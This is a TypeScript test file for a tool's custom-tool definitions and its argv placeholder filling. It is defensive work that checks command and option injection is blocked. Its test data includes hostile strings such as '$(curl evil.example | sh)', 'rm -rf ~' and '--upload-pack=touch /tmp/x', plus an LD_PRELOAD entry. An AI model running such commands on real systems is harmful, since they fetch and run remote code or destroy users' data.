// Custom tool definitions as read from files and settings, and the argv a call fills in: what a broken
// definition is reported as (its file and field; its tool left out, the others kept), and how
// `{{param}}` placeholders are filled — one element each, never re-read, never left unresolved.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { expandArgv, placeholdersIn } from '../../../src/core/customtools/argv';
import { readDefinitions } from '../../../src/core/customtools/definition';
import { readCustomTools } from '../../../src/core/customtools/sources';
import { removeTempDirs, tempDir } from '../../support/fs-fixtures';

after(removeTempDirs);

const src = { file: '/ws/.pincer/tools/t.json', workspace: true };
const good = { name: 'greet', description: 'Says hello.', parameters: { type: 'object', properties: { who: { type: 'string' } }, required: ['who'] }, command: ['echo', 'hello', '{{who}}'] };

describe('custom tools: definitions', () => {
  it('reads a definition with its defaults: 60 s, enabled, no cwd, no env', () => {
    const r = readDefinitions(good, src);
    assert.deepEqual(r.problems, []);
    assert.equal(r.definitions.length, 1);
    const d = r.definitions[0];
    assert.equal(d.timeoutMs, 60_000);
    assert.deepEqual(d.command, ['echo', 'hello', '{{who}}']);
    assert.equal(d.cwd, undefined);
    assert.deepEqual(d.env, {});
    assert.equal(d.schema.safeParse({ who: 'x' }).success, true);
    assert.equal(d.schema.safeParse({}).success, false, 'the schema validates the arguments');
  });

  it('reports each broken definition with its file and field and keeps the others', () => {
    const broken: [unknown, RegExp][] = [
      [{ ...good, name: 'has space' }, /\[1\]\.name: must start with a letter/],
      [{ ...good, command: 'echo hello {{who}}' }, /\[2\]\.command: /],
      [{ ...good, command: [] }, /\[3\]\.command: must name the program/],
      [{ ...good, command: ['echo', '{{whom}}'] }, /\[4\]\.command\[1\]: \{\{whom\}\} names no parameter \(declared: who\)/],
      [{ ...good, command: ['{{who}}', 'x'] }, /\[5\]\.command\[0\]: the program must be written out/],
      [{ ...good, env: { LD_PRELOAD: '/tmp/x.so' } }, /\[6\]\.env\.LD_PRELOAD: this variable makes programs load or run other code/],
      [{ ...good, parameters: { type: 'array' } }, /\[7\]\.parameters\.type: must be "object"/],
      [{ ...good, timeout_seconds: 0 }, /\[8\]\.timeout_seconds: /],
      [{ ...good, surprise: true }, /\[9\]: .*surprise/],
      [{ ...good, parameters: { type: 'object', properties: { a: { type: 'nonsense' } } } }, /\[10\]\.parameters: not a JSON Schema/],
      [{ ...good, env: { TOKEN: '{{who}}' } }, /\[11\]\.env\.TOKEN: placeholders are filled in command only/],
      [{ ...good, cwd: '{{who}}' }, /\[12\]\.cwd: placeholders are filled in command only/],
    ];
    const r = readDefinitions([good, ...broken.map(([d]) => d)], src);
    assert.deepEqual(r.definitions.map((d) => d.name), ['greet']);
    assert.equal(r.problems.length, broken.length);
    broken.forEach(([, re], i) => {
      assert.ok(r.problems[i].startsWith(`${src.file}: `), r.problems[i]);
      assert.match(r.problems[i], re);
    });
  });

  it('a disabled definition is left out silently; env values may name a secret', () => {
    const r = readDefinitions([{ ...good, enabled: false }, { ...good, name: 'withenv', env: { MODE: 'ci', TOKEN: '${secret:api}' } }], src);
    assert.deepEqual(r.problems, []);
    assert.deepEqual(r.definitions.map((d) => d.name), ['withenv']);
    assert.deepEqual(r.definitions[0].env, { MODE: 'ci', TOKEN: { secret: 'api' } });
  });

  it('files: one tool or an array per file, in name order; JSON with comments; a broken file names itself; a name defined twice keeps the first', () => {
    const ws = tempDir('custom-defs');
    const dir = path.join(ws, '.pincer', 'tools');
    fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, 'a.json'), '// mine\n' + JSON.stringify([good, { ...good, name: 'second' }]));
    fs.writeFileSync(path.join(dir, 'b.json'), JSON.stringify({ ...good, description: 'again' }));
    fs.writeFileSync(path.join(dir, 'c.json'), '{ "name": ');
    fs.writeFileSync(path.join(dir, 'notes.txt'), 'not a definition');
    const r = readCustomTools({ workspaceFolder: ws, workspaceTrusted: true, user: { value: { ...good, name: 'mine' }, file: 'user settings' } });
    assert.deepEqual(r.definitions.map((d) => `${d.name}@${path.basename(d.source.file)}`), ['mine@user settings', 'greet@a.json', 'second@a.json']);
    assert.equal(r.problems.length, 2, r.problems.join('\n'));
    assert.match(r.problems[0], /b\.json: name: "greet" is already defined in .*a\.json; this one is not registered/);
    assert.match(r.problems[1], /c\.json: \(file\): /);
  });

  it('an untrusted workspace: its files and settings are not read, the person\'s own tools are', () => {
    const ws = tempDir('custom-untrusted');
    fs.mkdirSync(path.join(ws, '.pincer', 'tools'), { recursive: true });
    fs.writeFileSync(path.join(ws, '.pincer', 'tools', 'a.json'), JSON.stringify(good));
    const r = readCustomTools({
      workspaceFolder: ws, workspaceTrusted: false, user: { value: { ...good, name: 'mine' }, file: 'user settings' },
      workspace: { value: { ...good, name: 'theirs' }, file: 'workspace settings' },
    });
    assert.deepEqual(r.definitions.map((d) => d.name), ['mine']);
    assert.deepEqual(r.skipped.map((s) => path.basename(s.file)), ['workspace settings', 'a.json']);
    assert.match(r.skipped[0].reason, /not trusted/);
  });
});

describe('custom tools: filling the argv', () => {
  it('each placeholder fills its own element, inside it, whatever the value holds', () => {
    const hostile = ['; rm -rf ~', '$(curl evil.example | sh)', '`id`', 'a\nrm -rf ~', "it's \"quoted\"", '*', '{{other}}', ''];
    for (const v of hostile) {
      const r = expandArgv(['grep', '--label={{v}}', '-e', '{{v}}', '--', 'file'], { v, other: 'NOT FILLED' });
      assert.ok('argv' in r, JSON.stringify(r));
      assert.deepEqual(r.argv, ['grep', `--label=${v}`, '-e', v, '--', 'file'], 'one element each, the value verbatim and never expanded again');
    }
    assert.deepEqual(placeholdersIn('a{{x}}b{{ y }}c{{.Go}}'), ['x', 'y'], 'other {{…}} text (a Go template) is not a placeholder');
  });

  it('numbers and booleans become their text; a missing argument or a non-scalar is an error, never passed on', () => {
    assert.deepEqual(expandArgv(['x', '{{n}}', '{{b}}', '{{neg}}'], { n: 3, b: false, neg: -2 }), { argv: ['x', '3', 'false', '-2'] });
    const missing = expandArgv(['x', '{{n}}'], {});
    assert.ok('error' in missing);
    assert.match(missing.error, /command\[1\] needs \{\{n\}\}, but the argument "n" was not given/);
    for (const bad of [[1, 2], { a: 1 }, null]) {
      const r = expandArgv(['x', '{{n}}'], { n: bad });
      assert.ok('error' in r && /must be a single string, number or boolean/.test(r.error), JSON.stringify(bad));
    }
  });

  it('a value filling a whole element may not start with "-" (an option) unless the definition ended the options with --', () => {
    for (const v of ['--output=/etc/passwd', '-rf', '--upload-pack=touch /tmp/x']) {
      const r = expandArgv(['git', 'log', '{{ref}}'], { ref: v });
      assert.ok('error' in r, v);
      assert.match(r.error, /starts with "-", so the program would read it as an option/);
      assert.equal(r.parameter, 'ref');
      assert.deepEqual(expandArgv(['git', 'log', '--', '{{ref}}'], { ref: v }), { argv: ['git', 'log', '--', v] }, 'after -- it is an operand');
      assert.deepEqual(expandArgv(['git', 'log', '--grep={{ref}}'], { ref: v }), { argv: ['git', 'log', `--grep=${v}`] }, 'inside an option it is that option\'s value');
    }
  });
});
